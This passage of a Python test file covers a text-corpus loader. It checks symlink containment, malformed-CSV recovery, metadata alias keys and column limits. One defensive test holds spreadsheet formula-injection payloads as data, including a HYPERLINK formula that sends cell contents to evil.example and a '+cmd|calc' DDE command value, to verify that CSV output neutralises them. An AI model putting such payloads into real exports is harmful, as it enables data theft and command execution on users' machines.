    write(tmp_path / "private" / "more", "other.txt", "Other\n\n" + GOOD)
    corpus = tmp_path / "corpus"
    write(corpus, "good.txt", "Good\n\n" + GOOD)
    write(corpus, "inside/real.txt", "Real\n\n" + GOOD)
    (corpus / "leak.txt").symlink_to(secret)
    (corpus / "alias.txt").symlink_to(corpus / "inside" / "real.txt")  # stays inside: read
    (corpus / "linked").symlink_to(tmp_path / "private" / "more", target_is_directory=True)
    (corpus / "sub").mkdir()
    (corpus / "sub" / "corpus.yaml").symlink_to(secret)
    write(corpus, "sub/s.txt", "S\n\n" + GOOD)
    loaded = load_corpus(corpus)
    assert loaded.articles["article_id"].tolist() == ["alias", "good", "inside/real", "sub/s"]
    assert [(s, e) for s, e, _ in rows(loaded.problems)] == [
        ("leak.txt", "LinkError"),
        ("linked", "LinkError"),
        ("sub/corpus.yaml", "LinkError"),
    ]
    assert loaded.problems.loc[0, "problem"] == (
        "a symbolic link to a file outside the corpus folder; not followed "
        "(pass --follow-links, or follow_links=True, to read it)"
    )
    assert loaded.problems.loc[1, "problem"].startswith("a symbolic link to a folder; not followed")
    out = tmp_path / "out"
    assert main(["analyze", str(corpus), "--out", str(out), "--jobs", "1", "--quiet"]) == 0
    for name in ("articles.csv", "report.html", "problems.csv"):
        assert "SECRET-LINE" not in (out / name).read_text(encoding="utf-8")
    assert "leak.txt: a symbolic link to a file outside" in capsys.readouterr().out
    followed = load_corpus(corpus, follow_links=True)
    assert "leak" in followed.articles["article_id"].tolist()
    assert "linked/other" in followed.articles["article_id"].tolist()


def test_following_links_reads_a_looping_folder_once(tmp_path):
    corpus = tmp_path / "corpus"
    write(corpus, "a/x.txt", "X\n\n" + GOOD)
    (corpus / "a" / "loop").symlink_to(corpus, target_is_directory=True)
    (corpus / "again").symlink_to(corpus / "a", target_is_directory=True)
    loaded = load_corpus(corpus, follow_links=True)
    assert loaded.articles["article_id"].tolist() == ["a/x"]
    assert [(s, e) for s, e, _ in rows(loaded.problems)] == [
        ("a/loop", "LinkError"),
        ("again", "LinkError"),
    ]


def test_csv_unclosed_quote_costs_its_line_not_the_next_good_row(tmp_path):
    # row 2 opens a quotation mark it never closes; row 3's opening mark closes it
    write(
        tmp_path,
        "e.csv",
        'id,text\n1,"Good one."\n2,"He said hi\n3,"Next good row."\n4,"Fourth."\n',
    )
    corpus = load_corpus(tmp_path)
    assert corpus.articles["article_id"].tolist() == ["1", "3", "4"]
    assert rows(corpus.problems) == [
        (
            "e.csv:3",
            "RecordFormatError",
            "bad CSV (',' expected after '\"'); line 3 skipped, reading went on after it",
        )
    ]


def test_csv_bad_record_over_several_lines_is_one_problem(tmp_path):
    # the bad record's continuation lines are read again: not good rows, so folded into it
    write(
        tmp_path,
        "e.csv",
        'id,text\n1,"Good one."\n2,"para one\npara two" oops\n3,"Next good row."\n',
    )
    corpus = load_corpus(tmp_path)
    assert corpus.articles["article_id"].tolist() == ["1", "3"]
    assert rows(corpus.problems) == [
        (
            "e.csv:3",
            "RecordFormatError",
            "bad CSV (',' expected after '\"'); lines 3-4 skipped, reading went on after it",
        )
    ]


def test_csv_field_over_the_limit_over_many_lines_is_one_problem(tmp_path):
    lines = "xxxxxxxxx\n" * 200_000  # 2 MB in one quoted field, over 4 * max_bytes + 1 MB
    write(tmp_path, "big.csv", f'id,text\n1,"Good one."\n2,"{lines}"\n3,"Next good row."\n')
    corpus = load_corpus(tmp_path, max_bytes=1000)
    assert corpus.articles["article_id"].tolist() == ["1", "3"]
    assert rows(corpus.problems) == [
        (
            "big.csv:3",
            "OversizeArticleError",
            "a field of over 1,004,000 characters, too long for an article under the "
            "max_bytes limit of 1,000; lines 3-200003 skipped",
        )
    ]


def test_csv_cells_that_would_run_as_formulas_are_neutralised_parquet_is_exact(tmp_path):
    from analysis.runner import read_results

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    corpus = tmp_path / "c"
    write(corpus, "a.txt", f"---\ntitle: '{formula}'\noutlet: '+cmd|calc'\n---\n{GOOD}")
    write(
        corpus,
        "b.txt",
        "---\ntitle: '@SUM(1)'\noutlet: '-2+3'\n---\n“=1+1 is two,” said Ann Lee.\n",
    )
    out = tmp_path / "out"
    assert main(["analyze", str(corpus), "--out", str(out), "--jobs", "1", "--quiet"]) == 0
    articles = pd.read_csv(out / "articles.csv", dtype=str, keep_default_na=False)
    assert articles["title"].tolist() == [f"'{formula}", "'@SUM(1)"]
    assert articles["outlet"].tolist() == ["'+cmd|calc", "'-2+3"]
    quotes = pd.read_csv(out / "quotes.csv", dtype=str, keep_default_na=False)
    assert "'=1+1 is two," in quotes["text"].tolist()
    balance = pd.read_csv(out / "balance.csv", dtype=str, keep_default_na=False)
    assert set(balance["outlet"]) == {"'+cmd|calc", "'-2+3"}
    for path in out.rglob("*.csv"):  # no text cell of any CSV starts like a formula
        table = pd.read_csv(path, dtype=str, keep_default_na=False)
        for column in table.columns:
            text = table[column].loc[lambda v: pd.to_numeric(v, errors="coerce").isna()]
            assert not text.str.match(r"[=+\-@]").any(), (path.name, column)
    exact = read_results(out)  # Parquet keeps the values as they are
    assert exact.articles["title"].tolist() == [formula, "@SUM(1)"]
    assert "=1+1 is two," in exact.quotes["text"].tolist()


def test_alias_keys_in_one_record_say_which_won(tmp_path):
    write(
        tmp_path,
        "a.jsonl",
        '{"body": "Body text.", "text": "Text text.", "id": "x1", "article_id": "a1"}\n'
        '{"body": "B2.", "text": "T2.", "id": "x2", "article_id": "a2"}\n'
        '{"TEXT": "Upper.", "text": "Lower.", "id": "a3"}\n',
    )
    write(tmp_path, "b.csv", "body,id,text,article_id\nB4.,x4,T4.,a4\n")
    corpus = load_corpus(tmp_path)
    # the field named as the key itself wins, whatever the order; else the first
    assert corpus.articles[["article_id", "text"]].values.tolist() == [
        ["a1", "Text text."],
        ["a2", "T2."],
        ["a3", "Upper."],
        ["a4", "T4."],
    ]
    assert rows(corpus.problems) == [
        (
            "a.jsonl:1",
            "MetadataError",
            "'text' and 'body' both give 'text': 'text' used, 'body' ignored; 'article_id' and "
            "'id' both give 'article_id': 'article_id' used, 'id' ignored (the record is "
            "loaded; said once per file)",
        ),
        (
            "a.jsonl:3",
            "MetadataError",
            "'TEXT' and 'text' both give 'text': 'TEXT' used, 'text' ignored (the record is "
            "loaded; said once per file)",
        ),
        (
            "b.csv",
            "MetadataError",
            "'text' and 'body' both give 'text': 'text' used, 'body' ignored; 'article_id' and "
            "'id' both give 'article_id': 'article_id' used, 'id' ignored, in every record "
            "(the records are loaded)",
        ),
    ]


def test_a_key_per_record_keeps_the_articles_table_narrow(tmp_path, capsys):
    from analysis.store import MAX_METADATA_COLUMNS

    n = MAX_METADATA_COLUMNS + 50
    lines = [
        json.dumps({"id": f"a{i:03d}", "text": GOOD, "desk": "metro", f"key_{i:03d}": "v"})
        for i in range(n)
    ]
    lines[0] = json.dumps({"id": "a000", "text": GOOD, "key_000": "v", "key_001": "w"})
    write(tmp_path / "c", "a.jsonl", "\n".join(lines) + "\n")
    out = tmp_path / "out"
    argv = ["analyze", str(tmp_path / "c"), "--out", str(out), "--jobs", "1", "--quiet"]
    assert main([*argv, "--no-sentiment", "--chunk-size", "40"]) == 0
    articles = pd.read_csv(out / "articles.csv", dtype=str, keep_default_na=False)
    extra = [c for c in articles.columns if c == "desk" or c.startswith("key_")]
    # desk (149 articles) and key_001 (2) first, then the one-article keys in name order:
    # 100 kept of 151 (desk and key_000 to key_149)
    assert extra == sorted(["desk", "key_001", *[f"key_{i:03d}" for i in [0, *range(2, 99)]]])
    problems = pd.read_csv(out / "problems.csv", dtype=str, keep_default_na=False)
    assert problems.values.tolist() == [
        [
            "articles table",
            "MetadataError",
            f"51 metadata keys are not columns of the articles table, which keeps the "
            f"{MAX_METADATA_COLUMNS} found in most articles: key_099, key_100, key_101, "
            "key_102, key_103, key_104, key_105, key_106, key_107, key_108 and 41 more; the "
            "corpus files still hold them",
        ]
    ]


def test_alias_keys_in_front_matter_resolve_like_records(tmp_path):
    write(tmp_path, "a.txt", "---\narticle_id: kept\nid: ignored\n---\nA\n\n" + GOOD)
    write(tmp_path, "b.txt", "---\nid: ignored-too\narticle_id: kept-too\n---\nB\n\n" + GOOD)
    assert load_corpus(tmp_path).articles["article_id"].tolist() == ["kept", "kept-too"]
